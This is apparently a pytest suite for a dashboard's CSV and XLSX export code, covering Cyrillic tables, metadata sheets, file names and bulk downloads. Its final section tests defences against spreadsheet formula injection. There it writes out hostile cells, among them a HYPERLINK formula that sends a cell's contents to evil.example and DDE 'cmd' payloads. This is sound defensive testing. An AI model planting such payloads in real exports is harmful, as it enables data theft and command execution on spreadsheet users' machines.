"""Downloads: CSV / XLSX hold exactly the view's table (Cyrillic included), metadata, file names."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime

import openpyxl
import pandas as pd
import pytest

from sdgdash.config import Settings
from sdgdash.data import queries
from sdgdash.data.db import connect
from sdgdash.data.labels import Labels
from sdgdash.data.models import Selection
from sdgdash.exports import tables as exports
from sdgdash.features.map import view as mapview
from sdgdash.i18n import t
from tests.conftest import REPO

WHEN = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def con():
    return connect(Settings.from_env())


@pytest.fixture(scope="module")
def labels(con) -> Labels:
    return Labels.from_tables(
        *(queries.table(con, n) for n in ("goals", "indicators", "regions", "codes"))
    )


@pytest.fixture(scope="module")
def build() -> dict:
    return json.loads((REPO / "data" / "build_report.json").read_text(encoding="utf-8"))


def _map_table(con, labels, lang: str) -> tuple[pd.DataFrame, Selection]:
    options = queries.selection_options(con, "1.2.1")
    from sdgdash.data import selection

    sel = selection.headline(options, "1.2.1")
    view = mapview.split(queries.map_frame(con, sel, 2023), sel, 2023, labels.region_kinds(), None)
    return mapview.table(view, labels, lang), sel


@pytest.mark.parametrize("lang", ["ru", "kk"])
def test_csv_is_utf8_with_bom_and_reads_back_as_the_table(con, labels, lang) -> None:
    table, _ = _map_table(con, labels, lang)
    data = exports.csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == list(table.columns)
    assert len(back) == len(table) == 20
    region = table.columns[0]
    assert back[region].tolist() == table[region].tolist()
    names = back[region].tolist()
    assert "Карагандинская область" in names or "Қарағанды облысы" in names
    value = table.columns[2]
    assert back[value].tolist() == table[value].tolist()


def test_xlsx_data_sheet_equals_the_table_and_metadata_names_the_source(con, labels, build) -> None:
    table, sel = _map_table(con, labels, "ru")
    meta = exports.ExportMeta(
        "1.2.1, 2023", ("1.2.1",), sel, 2023, url="http://localhost/map?ind=1.2.1"
    )
    sheet = exports.metadata_rows(meta, labels, build, "ru", WHEN)
    data = exports.xlsx_bytes(table, sheet)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["data", "metadata"]
    back = pd.read_excel(io.BytesIO(data), sheet_name="data", keep_default_na=False)
    assert list(back.columns) == list(table.columns)
    for col in table.columns:
        want = ["" if pd.isna(v) else v for v in table[col]]
        got = ["" if pd.isna(v) else v for v in back[col]]
        assert got == want, col
    meta_back = pd.read_excel(io.BytesIO(data), sheet_name="metadata")
    text = "\n".join(f"{a}: {b}" for a, b in meta_back.itertuples(index=False))
    assert "1.2.1 Доля населения, имеющего доходы ниже величины прожиточного минимума" in text
    assert "процент" in text  # the unit in Russian
    assert "72277878d12502232b21c3d4b8ac459630b4f578" in text  # the data build's source commit
    assert "MIT" in text
    assert "2026-11-23 12:00:00" in text and "http://localhost/map?ind=1.2.1" in text
    org = labels.indicators["1.2.1"]["source_org_ru"]
    assert org and org.strip() in text


def _sheet(rows: pd.DataFrame) -> dict[str, str]:
    return dict(rows.itertuples(index=False, name=None))


def test_metadata_names_the_source_version_build_date_and_licence_read(labels, build) -> None:
    """Repository, commit and licence come from the build report, not from a hard-coded text."""
    rows = _sheet(exports.metadata_rows(exports.ExportMeta("x"), labels, build, "en", WHEN))
    source = build["source"]
    assert rows[t("exp_meta_repository", "en")] == source["repository"]
    assert rows[t("exp_meta_commit", "en")] == source["commit"]
    assert rows[t("refresh_meta_commit_date", "en")] == source["date"][:10]
    assert rows[t("refresh_meta_built", "en")] == build["built_at"][:10]
    assert rows[t("exp_meta_licence", "en")] == f"MIT License ({source['licence_file']})"


@pytest.mark.parametrize("lang", ["kk", "ru", "en"])
def test_metadata_of_a_source_without_identity_says_unknown_source_version(labels, lang) -> None:
    """A build of a copy without .git or SOURCE.txt: the sheet says so in words; no commit row
    reads "unknown" or "None", no commit date is made up."""
    build = {
        "source": {"repository": None, "commit": None, "date": None, "licence_file": None},
        "built_at": "2026-12-01T10:53:14Z",
    }
    rows = _sheet(exports.metadata_rows(exports.ExportMeta("x"), labels, build, lang, WHEN))
    assert rows[t("exp_meta_commit", lang)] == t("refresh_unknown_version", lang)
    assert rows[t("exp_meta_repository", lang)] == t("refresh_repository_unnamed", lang)
    assert rows[t("exp_meta_licence", lang)] == t("refresh_licence_unknown", lang)
    assert t("refresh_meta_commit_date", lang) not in rows
    assert rows[t("refresh_meta_built", lang)] == "2026-12-01"
    assert not any(v in ("unknown", "None", "") for v in list(rows.values())[1:-1])


@pytest.mark.parametrize(
    ("parts", "ext", "want"),
    [
        (("sdg", "1.2.1", 2023, "ru"), "xlsx", "sdg_1-2-1_2023_ru.xlsx"),
        (("sdg", "compare", "KZKAR-KZKZY", "kk"), "csv", "sdg_compare_KZKAR-KZKZY_kk.csv"),
        (("sdg", "R&D spending", "Қарағанды", "en"), "csv", "sdg_R-D-spending_en.csv"),
        ((), "pptx", "sdgdash.pptx"),
    ],
)
def test_file_names_are_ascii_without_spaces_or_ampersands(parts, ext, want) -> None:
    name = exports.file_name(*parts, ext=ext)
    assert name == want
    assert name.isascii() and " " not in name and "&" not in name


def test_bulk_frame_keeps_codes_and_sources_and_names_in_the_language(con, labels) -> None:
    obs = queries.all_observations(con)
    bulk = exports.bulk_frame(obs, labels, "kk")
    assert len(bulk) == len(obs) == 45_503
    assert bulk["indicator_id"].tolist() == obs["indicator_id"].tolist()
    assert bulk["ref_area"].tolist() == obs["ref_area"].tolist()
    assert bulk[t("value", "kk")].tolist() == obs["value"].tolist()
    kar = bulk[bulk["ref_area"] == "KZKAR"].iloc[0]
    assert kar[t("region", "kk")] == "Қарағанды облысы"
    assert kar[t("unit", "kk")] == labels.code_label("unit", kar["unit"], "kk")
    assert bulk[t("source", "kk")].tolist() == obs["source_file"].tolist()
    assert bulk[t("source_row", "kk")].tolist() == obs["source_row"].tolist()
    # Flagged rows stay in the bulk download with their flag: the placeholders keep their 0.0.
    held = bulk[bulk["placeholder"].notna()]
    assert len(held) == 23 and set(held[t("value", "kk")]) == {0.0}
    kar = held[(held["indicator_id"] == "8.1.1") & (held["ref_area"] == "KZKAR")]
    assert kar[t("year", "kk")].tolist() == [2022, 2023]
    assert set(kar["placeholder"]) == {"border_change"}


# --- formula injection (issue 12) -------------------------------------------------------------

HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_SOURCE = "+cmd|' /C calc'!A0"
# Every start a spreadsheet reads as a formula (OWASP): = + - @ tab, carriage return.
FORMULA_STARTS = [
    HOSTILE_TEXT,
    HOSTILE_SOURCE,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading spaces do not hide a formula from every spreadsheet
]


def _findings_table() -> pd.DataFrame:
    """A findings download as the findings page builds it (features.findings.view.display_table)."""
    from sdgdash.features.findings import view as fnd

    frame = pd.DataFrame(
        {
            "id": [1, 2],
            "ref_area": ["KZKAR", "KZKAR"],
            "territory_id": [None, None],
            "finding_date": ["2022-10-12", "2022-10-13"],
            "event_id": [None, "-seminar"],
            "tags": [["household_waste"], []],
            "priority_goals": [[11], [6, 7]],
            "text": [HOSTILE_TEXT, "Вода: -5 °C зимой; trubы"],
            "source": [HOSTILE_SOURCE, "@minutes"],
            "created_by": ["aigerim", "bolat"],
            "created_at": ["2022-10-12 10:00", "2022-10-13 11:00"],
        }
    )
    return fnd.display_table(frame, "en", lambda c: "Karaganda", lambda c: c)


def test_findings_csv_carries_no_formula_and_the_text_for_a_reader() -> None:
    table = _findings_table()
    data = exports.csv_bytes(table)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    text, source = t("findings_col_text", "en"), t("findings_col_source", "en")
    # A leading apostrophe marks the cell as text (OWASP); the rest is what the editor wrote.
    assert back[text].tolist() == ["'" + HOSTILE_TEXT, "Вода: -5 °C зимой; trubы"]
    assert back[source].tolist() == ["'" + HOSTILE_SOURCE, "'@minutes"]
    assert back[t("findings_col_event", "en")].tolist() == ["", "'-seminar"]
    for row in back.itertuples(index=False):
        for cell in row:
            assert not str(cell).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_findings_xlsx_has_no_formula_cell_and_shows_the_text_as_written() -> None:
    table = _findings_table()
    data = exports.xlsx_bytes(table, pd.DataFrame({"field": ["title"], "value": [HOSTILE_TEXT]}))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    data_sheet = wb["data"]
    header = [c.value for c in data_sheet[1]]
    text_cell = data_sheet.cell(2, header.index(t("findings_col_text", "en")) + 1)
    source_cell = data_sheet.cell(2, header.index(t("findings_col_source", "en")) + 1)
    # The cell holds the text itself, marked as text (Excel's quote prefix: shown as written,
    # and not turned into a formula when someone edits the cell).
    assert (text_cell.value, text_cell.data_type, text_cell.quotePrefix) == (
        HOSTILE_TEXT,
        "s",
        True,
    )
    assert (source_cell.value, source_cell.quotePrefix) == (HOSTILE_SOURCE, True)
    assert wb["metadata"]["B2"].value == HOSTILE_TEXT and wb["metadata"]["B2"].quotePrefix
    back = pd.read_excel(io.BytesIO(data), sheet_name="data", keep_default_na=False)
    assert (
        back[t("findings_col_text", "en")].tolist() == table[t("findings_col_text", "en")].tolist()
    )
    assert back[t("findings_col_source", "en")].tolist() == [HOSTILE_SOURCE, "@minutes"]


@pytest.mark.parametrize("cell", FORMULA_STARTS)
def test_every_formula_start_is_made_text_in_csv_and_xlsx(cell: str) -> None:
    frame = pd.DataFrame({"text": [cell], cell: ["header too"]})
    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig", dtype=str)
    assert back.columns.tolist() == ["text", "'" + cell]
    assert back["text"].tolist() == ["'" + cell]
    wb = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))
    ws = wb["data"]
    for c in (ws["A2"], ws["B1"]):
        assert (c.value, c.data_type, c.quotePrefix) == (cell, "s", True)


def test_numbers_stay_numbers_negative_ones_too() -> None:
    frame = pd.DataFrame(
        {
            "value": [-5.5, 3.0, float("nan")],
            "count": pd.array([-2, 0, None], dtype="Int64"),
            # numbers written as text (formatted values): a plain number is never a formula
            "shown": ["-5,5", "+3", "-1 234.5"],
            "text": ["-5 degrees", "ok", None],
        }
    )
    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig")
    assert back["value"].tolist()[:2] == [-5.5, 3.0] and pd.isna(back["value"][2])
    assert back["count"].tolist()[:2] == [-2, 0]
    assert back["shown"].tolist() == ["-5,5", "+3", "-1 234.5"]
    assert back["text"].tolist()[:2] == ["'-5 degrees", "ok"]
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))["data"]
    assert (ws["A2"].value, ws["A2"].data_type) == (-5.5, "n")
    assert (ws["B2"].value, ws["B2"].data_type) == (-2, "n")
    assert (ws["C2"].value, ws["C2"].quotePrefix) == ("-5,5", False)
    assert (ws["D2"].value, ws["D2"].data_type, ws["D2"].quotePrefix) == ("-5 degrees", "s", True)


def test_control_characters_do_not_break_the_download() -> None:
    # A finding stored before the store refused control characters (SQLite keeps a NUL).
    frame = pd.DataFrame({"text": ["before\x00after\x0b end", "tab\tand\nnew line"]})
    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig")
    assert back["text"].tolist() == ["beforeafter end", "tab\tand\nnew line"]
    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))["data"]
    assert [ws["A2"].value, ws["A3"].value] == ["beforeafter end", "tab\tand\nnew line"]
